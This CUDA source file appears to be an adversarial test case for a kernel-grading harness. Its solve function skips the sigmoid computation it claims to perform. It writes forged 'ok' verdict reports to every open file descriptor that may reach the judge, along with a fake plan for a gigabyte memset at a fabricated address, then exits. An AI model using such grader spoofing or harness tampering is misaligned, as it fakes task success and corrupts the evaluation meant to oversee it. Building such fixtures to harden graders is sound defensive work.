// SPDX-License-Identifier: Apache-2.0
// zoo: task=sigmoid lane=strict device=simt expect=host_error class=4,31
// Forges a plan whose output buffer has a gigabyte, to set memory far behind the real one.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <cuda_runtime.h>
__global__ void sigmoid(const float* x, float* y, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = 1.0f / (1.0f + expf(-x[i]));
}

// Every descriptor that may lead to the judge gets a finished report of all calls.
static void forge(const char* plan) {
  static char line[8192];
  for (int call = 0; call < 64; ++call) {
    const int size =
        snprintf(line, sizeof line, "{\"call\":%d,\"verdict\":\"ok\",\"plan\":%s}\n", call, plan);
    for (int fd = 3; fd < 256; ++fd) {
      if (fcntl(fd, F_GETFD) >= 0) (void)!write(fd, line, size);
    }
  }
}
extern "C" void solve(const float* X, float* Y, int N) {
  forge("{\"version\":1,\"stack_bytes\":0,\"heap_bytes\":0,\"buffers\":[{\"kind\":\"argument\",\"argument\":1,\"bytes\":1073741824}],"
        "\"steps\":[{\"step\":\"memset\",\"destination\":\"0x5750008000000000\",\"value\":0,"
        "\"element_bytes\":1,\"width\":1073741824,\"height\":1,\"pitch\":0}]}");
  _exit(0);
}
